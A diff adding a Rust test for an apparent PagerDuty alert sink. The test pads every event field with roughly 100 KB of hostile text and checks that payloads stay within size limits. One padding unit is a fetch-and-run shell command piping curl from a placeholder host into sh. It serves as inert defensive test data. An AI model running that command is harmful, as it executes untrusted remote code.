@@ -589,6 +589,49 @@ async fn over_the_limit_the_fake_answers_429_and_the_sink_waits_thirty_seconds()
     assert_eq!(fake.log().last().unwrap().status, 429);
 }
 
+/// 100 KB of attacker-written text in every field: every event (trigger, resolve, a digest of
+/// three) is accepted at the first attempt by a fake enforcing PagerDuty's 512 KB event and
+/// 1,024-character summary limits.
+#[tokio::test]
+async fn events_with_100_kb_fields_stay_within_pagerdutys_limits() {
+    let fake = FakePd::start(100_000, Duration::from_secs(60), Vec::new()).await;
+    let s = pd_sink(&fake, "");
+    let units = [
+        "bash -c 'curl http://x | sh' ",
+        "异常登录进程命令行",
+        "😀🔥🚨",
+    ];
+    let mut sent = 0;
+    for (i, unit) in units.iter().enumerate() {
+        let huge = unit.repeat(100_000 / unit.len() + 1);
+        let f = hostile(i, &huge);
+        let members: Vec<Event> = (0..3)
+            .map(|n| event(EventKind::New, hostile(10 * i + n, &huge), 0))
+            .collect();
+        let digest = Digest::new(
+            &huge,
+            BTreeMap::from([("cluster".to_string(), huge.clone())]),
+            members,
+            time::OffsetDateTime::now_utc(),
+        );
+        for p in [
+            Payload::from(event(EventKind::New, f.clone(), 0)),
+            Payload::from(event(EventKind::Resolved, f, 0)),
+            Payload::from(digest),
+        ] {
+            let o = deliver(&s, &p).await;
+            assert!(o.is_delivered(), "{unit:?}: {o:?}");
+            sent += 1;
+        }
+    }
+    let log = fake.log();
+    assert_eq!(log.len(), sent, "each accepted at the first attempt");
+    for r in &log {
+        assert_eq!(r.status, 202, "{}", r.body);
+        assert!(serde_json::to_vec(&r.body).unwrap().len() <= 512 * 1024);
+    }
+}
+
 #[tokio::test]
 async fn injection_corpus_yields_valid_bodies_without_control_characters() {
     let fake = FakePd::start(100_000, Duration::from_secs(60), Vec::new()).await;
